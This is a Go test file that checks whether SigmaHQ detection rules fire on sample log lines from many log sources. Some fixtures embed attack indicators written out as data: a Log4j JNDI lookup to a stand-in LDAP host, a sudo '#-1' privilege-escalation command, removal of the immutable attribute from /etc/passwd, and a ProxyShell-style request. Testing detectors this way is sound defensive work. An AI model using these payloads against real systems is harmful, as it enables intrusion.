package sigma

import (
	"archive/tar"
	"context"
	"encoding/json"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/sonae/sonae/event"
	"github.com/sonae/sonae/source"
	"github.com/sonae/sonae/source/jsonl"
	"github.com/sonae/sonae/source/sniff"
)

// TestPublicRulesFireOnForeignLogs wants that a line of each log, as its maker
// writes it, has the log source and the names with which SigmaHQ's rules fire.
func TestPublicRulesFireOnForeignLogs(t *testing.T) {
	rules, _ := corpus(t)
	m := NewSet(rules).NewMatcher()
	for name, c := range map[string]struct {
		format sniff.Format
		source string
		rules  []string // titles; others may fire, too
		in     string
	}{
		"sudo": {"syslog", "linux/sudo/", []string{"Sudo Privilege Escalation CVE-2019-14287 - Builtin"},
			`Jan  2 03:04:05 pc7 sudo: ward3 : TTY=pts/0 ; PWD=/home/ward3 ; USER=#-1 ; COMMAND=/bin/sh`},
		"crontab": {"syslog", "linux/cron/", []string{"Modifying Crontab"},
			`Jan  2 03:04:05 pc7 crontab[7]: (root) REPLACE (root)`},
		"ClamAV": {"syslog", "linux/clamav/", []string{"Relevant ClamAV Message"},
			`Jan  2 03:04:05 pc7 clamd[7]: /tmp/x: Trojan.Linux FOUND`},
		"vsftpd": {"syslog", "linux/vsftpd/", []string{"Suspicious VSFTPD Error Messages"},
			`Jan  2 03:04:05 pc7 vsftpd[7]: Connection refused: too many sessions for this address.`},
		"Sysmon for Linux": {"syslog", "linux/sysmon/process_creation", []string{"Decode Base64 Encoded Text"},
			`Jan  2 03:04:05 pc7 sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID></System><EventData><Data Name="Image">/usr/bin/base64</Data><Data Name="CommandLine">base64 -d /tmp/x</Data></EventData></Event>`},
		"FortiGate": {"syslog", "fortigate/event/", []string{"FortiGate - New Administrator Account Created"},
			`date=2026-01-02 time=03:04:05 devname=FG logid="1" type="event" action="Add" cfgpath="system.admin" user="x"`},
		"Cisco": {"syslog", "cisco/aaa/", []string{"Cisco Disabling Logging"},
			`<189>29: *Jan  2 03:04:05.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:a  logged command:no logging`},
		"auditd, a process": {"auditd", "linux/auditd/process_creation", []string{"Remove Immutable File Attribute", "Remove Immutable File Attribute - Auditd"},
			"type=SYSCALL msg=audit(1767323045.123:1): arch=c000003e syscall=59 success=yes exe=\"/usr/bin/chattr\" ppid=1 pid=2 uid=0\ntype=EXECVE msg=audit(1767323045.123:1): argc=3 a0=\"chattr\" a1=\"-i\" a2=\"/etc/passwd\"\n"},
		"auditd, a call by its number": {"auditd", "linux/auditd/", []string{"Linux AF_ALG Socket Creation - Kernel Crypto API Exploit Indicator", "Program Executions in Suspicious Folders"},
			"type=SYSCALL msg=audit(1767323045.123:1): arch=c000003e syscall=41 success=yes a0=26 exe=\"/tmp/x\"\n"},
		"auditd, a file": {"auditd", "linux/auditd/file_event", []string{"New Cron File Created"},
			"type=SYSCALL msg=audit(1767323045.123:1): arch=c000003e syscall=257 success=yes exe=\"/bin/cp\"\ntype=CWD msg=audit(1767323045.123:1): cwd=\"/etc\"\ntype=PATH msg=audit(1767323045.123:1): item=1 name=\"cron.d/x\" nametype=CREATE\n"},
		"access log": {"access", "//webserver", []string{"Log4j RCE CVE-2021-44228 Generic", "Suspicious User-Agents Related To Recon Tools"},
			`192.0.2.7 - - [10/Oct/2000:13:55:36 -0700] "GET /?x=${jndi:ldap://a.b/c} HTTP/1.0" 200 2326 "-" "sqlmap/1.0"`},
		"Apache's errors": {"access", "/apache/", []string{"Apache Segmentation Fault"},
			`[Fri Sep 09 10:42:29.902022 2011] [core:notice] [pid 7] AH00052: child pid 7 exit signal Segmentation Fault (11)`},
		"IIS": {"access", "//webserver", []string{"Successful Exchange ProxyShell Attack"},
			"#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status\n2026-01-02 03:04:05 192.0.2.1 POST /autodiscover/autodiscover.json a=/powershell/ 443 - 192.0.2.7 Mozilla/5.0+(X) - 200\n"},
		"Zeek's tables": {"zeek", "zeek/smb_files/", []string{"SMB Spoolss Name Piped Usage"},
			"#separator \\x09\n#path\tsmb_files\n#fields\tts\tid.orig_h\tpath\tname\n#types\ttime\taddr\tstring\tstring\n1767323045.1\t1.2.3.4\t\\\\\\\\h\\\\IPC$\tspoolss\n"},
		"Zeek's JSON": {"json", "zeek/dns/dns", []string{"DNS TOR Proxies"},
			`{"_path":"dns","ts":1767323045.5,"uid":"C","id.orig_h":"192.0.2.7","query":"x.onion.to","answers":["1.2.3.4"],"rejected":false}`},
		"EVE, http": {"json", "suricata/http/proxy", []string{"Rclone Activity via Proxy"},
			`{"timestamp":"2026-01-02T03:04:05.123456+0900","flow_id":1,"event_type":"http","src_ip":"192.0.2.7","http":{"hostname":"a","url":"/x","http_user_agent":"rclone/v1.5"}}`},
		"EVE, dns": {"json", "suricata/dns/dns", []string{"Cobalt Strike DNS Beaconing"},
			`{"timestamp":"2026-01-02T03:04:05.123456+0900","flow_id":1,"event_type":"dns","src_ip":"192.0.2.7","dns":{"type":"query","rrname":"aaa.stage.123456.x.com","rrtype":"A"}}`},
		"CloudTrail": {"json", "aws/cloudtrail/", []string{"AWS CloudTrail Important Change", "AWS Root Credentials"},
			`{"Records":[{"eventVersion":"1.08","userIdentity":{"type":"Root"},"eventTime":"2026-01-02T03:04:05Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","awsRegion":"us-east-1","eventType":"AwsApiCall"}]}`},
		"Microsoft 365": {"json", "m365/audit/", []string{"Mail Forwarding/Redirecting Activity In O365"},
			`{"CreationTime":"2026-01-02T03:04:05","Operation":"New-InboxRule","RecordType":1,"Workload":"Exchange","Parameters":[{"Name":"ForwardTo","Value":"x"}]}`},
		"Okta": {"json", "okta/okta/", []string{"Okta Policy Rule Modified or Deleted"},
			`{"actor":{"alternateId":"a@b"},"eventType":"policy.rule.delete","published":"2026-01-02T03:04:05Z"}`},
		"Kubernetes": {"json", "kubernetes/audit/application", []string{"Potential Remote Command Execution In Pod Container"},
			`{"kind":"Event","apiVersion":"audit.k8s.io/v1","verb":"create","objectRef":{"resource":"pods","subresource":"exec"}}`},
		"OpenCanary": {"json", "opencanary//application", []string{"OpenCanary - FTP Login Attempt"},
			`{"logtype":2000,"node_id":"n","src_host":"192.0.2.7"}`},
		"Azure": {"json", "azure/auditlogs/", []string{"New CA Policy by Non-approved Actor"},
			`{"records":[{"time":"2026-01-02T03:04:05Z","resourceId":"/t","operationName":"Add conditional access policy","category":"AuditLogs","properties":{"activityDisplayName":"Add conditional access policy"}}]}`},
		"GitHub": {"json", "github/audit/", []string{"GitHub Repository Archive Status Changed"},
			`{"@timestamp":1767323045000,"action":"repo.archived","actor":"a","_document_id":"x"}`},
	} {
		var fired []string
		from := ""
		format, report, err := sniff.Read(context.Background(), strings.NewReader(c.in), "", source.Options{}, func(r *event.Record) error {
			from = r.Product + "/" + r.Service + "/" + strings.Join(r.Categories, "+")
			m.Match(r, func(r *Rule) { fired = append(fired, r.Title) })
			return nil
		})
		if err != nil || report.BadTotal > 0 || format != c.format || from != c.source {
			t.Errorf("%s: %s from %s, %+v, %v", name, format, from, report, err)
		}
		for _, title := range c.rules {
			if !slices.Contains(fired, title) {
				t.Errorf("%s: %q does not fire; fired: %q", name, title, fired)
			}
		}
	}
}

// TestTelemetryReadByTheReaderMatchesAsExpected is the way of a real file: the
// reader decides on log source and names, not this test.
func TestTelemetryReadByTheReaderMatchesAsExpected(t *testing.T) {
	rules, _ := corpus(t)
	var use []*Rule
	loaded := map[string]bool{}
	for _, r := range rules {
		if top, _, _ := strings.Cut(r.File, "/"); top == "rules" || top == "rules-emerging-threats" || top == "rules-threat-hunting" {
			use = append(use, r)
			loaded[r.ID] = true
		}
	}
	want := expected(t)
	for p := range want {
		if !loaded[p.rule] || p.line%every != 0 {
			delete(want, p)
		}
	}
	m, all, extra := NewSet(use).NewMatcher(), len(want), map[string]int{}
	report, err := jsonl.Read(context.Background(), unzip(t, shared(t, "otrf-windows.ndjson.gz")), source.Options{}, func(r *event.Record) error {
		line := int(r.Number) - 1
		if line%every != 0 {
			return nil
		}
		m.Match(r, func(rule *Rule) {
			if p := (pair{line, rule.ID}); want[p] {
				delete(want, p)
			} else {
				extra[rule.ID]++
			}
		})
		return nil
	})
	if err != nil || report.BadTotal > 0 || report.Records != 18197 {
		t.Errorf("%+v, %v", report, err)
	}
	for p := range want {
		t.Errorf("line %d: rule %s does not fire", p.line, p.rule)
	}
	if t.Logf("%d pairs expected", all); all < 700/every/2 || len(extra) > 0 {
		t.Errorf("%d pairs expected; more than those: %v", all, extra)
	}
}

// TestTwinsReadByTheReaderFireTheirRules does the same with the events that
// evtx_dump wrote.
func TestTwinsReadByTheReaderFireTheirRules(t *testing.T) {
	rules, _ := corpus(t)
	m := NewSet(rules).NewMatcher()
	var cases []regression
	if err := json.NewDecoder(shared(t, "sigmahq-regression-expected.json")).Decode(&cases); err != nil {
		t.Fatal(err)
	}
	texts := map[string][]byte{}
	for r := tar.NewReader(unzip(t, shared(t, "sigmahq-regression.tar.gz"))); ; {
		h, err := r.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if texts[h.Name], err = io.ReadAll(r); err != nil {
			t.Fatal(err)
		}
	}
	for _, c := range cases {
		n := 0
		_, report, err := sniff.Read(context.Background(), strings.NewReader(string(texts[c.JSON])), "", source.Options{}, func(r *event.Record) error {
			m.Match(r, func(rule *Rule) {
				if rule.ID == c.Rule {
					n++
				}
			})
			return nil
		})
		if err != nil || report.BadTotal > 0 || n < c.Min {
			t.Errorf("%s: rule %s fires %d times, want %d; %+v, %v", c.JSON, c.Rule, n, c.Min, report, err)
		}
	}
	if len(cases) != 107 {
		t.Errorf("%d cases", len(cases))
	}
}
